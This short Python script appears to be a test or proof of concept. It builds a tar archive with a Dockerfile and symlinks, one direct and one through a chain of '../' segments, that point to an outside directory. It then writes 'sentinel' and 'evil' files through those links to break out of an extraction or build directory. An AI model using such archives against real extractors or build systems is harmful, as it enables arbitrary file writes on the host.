import io, os, tarfile
out = tarfile.open("c.tar", "w")
def file(name, data=b"evil"):
    i = tarfile.TarInfo(name); i.size = len(data); out.addfile(i, io.BytesIO(data))
def link(name, target):
    i = tarfile.TarInfo(name); i.type = tarfile.SYMTYPE; i.linkname = target; out.addfile(i)
file("Dockerfile", b"FROM scratch\nCOPY . /x/\n")
link("l", os.environ["OUTSIDE"]); file("l/sentinel"); file("l/new")
link("m", "../../../../../../../../../.." + os.environ["OUTSIDE"]); file("m/sentinel")
out.close()
